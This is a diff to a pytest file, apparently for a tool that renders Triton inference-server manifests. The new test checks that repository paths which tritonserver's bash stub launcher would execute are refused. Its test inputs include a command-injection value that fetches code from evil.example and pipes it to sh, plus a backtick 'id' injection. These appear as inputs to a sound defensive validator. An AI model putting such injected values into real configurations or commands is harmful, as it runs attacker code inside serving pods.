@@ -160,3 +160,22 @@ def test_a_newline_in_artifacts_dir_is_refused_before_any_manifest_is_written(tm
     assert isinstance(result.exception, SpecError), result.output
     assert "artifacts.dir" in result.exception.message and "control character" in result.exception.message
     assert not (tmp_path / "repo").exists()
+
+
+@pytest.mark.parametrize("field, value", [("kubernetes.repository_path", "/models/$(curl evil.example | sh)/repo"),
+                                          ("kubernetes.repository_path", "/models/`id`"),
+                                          ("artifacts.dir", "/data/my models")])
+def test_a_repository_path_tritons_stub_launcher_would_run_is_refused_for_the_pods(tmp_path, field, value):
+    """Second review: the pods' tritonserver starts each Python model's stub with ``bash -c`` and the model's
+    path unquoted (Triton 2.51), so a repository path holding ``$(…)`` ran it in the pod however the
+    manifest quoted it (and a space kept every model from loading). Render refuses it, naming the field
+    it comes from (artifacts.dir when kubernetes.repository_path is derived from it)."""
+    spec = tmp_path / "spec.yaml"
+    data = {"serving": {"engine": "llmapi"}, "build": {"gpu": "b200"}}
+    section, key = field.split(".")
+    data.setdefault(section, {})[key] = value
+    spec.write_text(yaml.safe_dump(data))
+    result = CliRunner().invoke(app, ["render", str(spec), "-o", str(tmp_path / "repo"), "--gpu"])
+    assert isinstance(result.exception, SpecError), result.output
+    assert field in result.exception.where and "bash" in result.exception.message, result.exception
+    assert not (tmp_path / "repo").exists()
